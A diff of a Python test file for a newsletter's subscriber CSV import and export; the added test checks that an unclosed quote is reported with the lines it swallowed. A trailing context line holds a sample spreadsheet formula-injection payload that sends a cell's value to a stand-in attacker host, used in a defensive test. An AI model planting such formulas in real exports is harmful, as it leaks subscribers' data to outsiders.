@@ -392,6 +392,16 @@ def test_export_writes_every_subscriber_as_csv(tmp_path, weekly):
     assert [row["email"] for row in csv.DictReader(out.open())] == ["ann@example.com"]
 
 
+def test_an_unclosed_quote_is_reported_with_the_lines_it_swallowed(weekly):
+    content = 'email,name\nann@example.com,Ann\n"bob@example.com,Bob\ncid@example.com,Cid\n'
+    report = subscribers_import(binary=BytesIO(content.encode()), newsletter=weekly)
+
+    assert (report.rows, report.imported, report.rejected) == (2, 1, 1)
+    [rejection] = report.rejections
+    assert rejection["line"] == 3
+    assert "quote opened on line 3 is not closed: lines 3 to 4" in rejection["reason"]
+
+
 def test_export_keeps_spreadsheets_from_running_what_subscribers_typed(client, tmp_path, weekly):
     formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
     client.post(
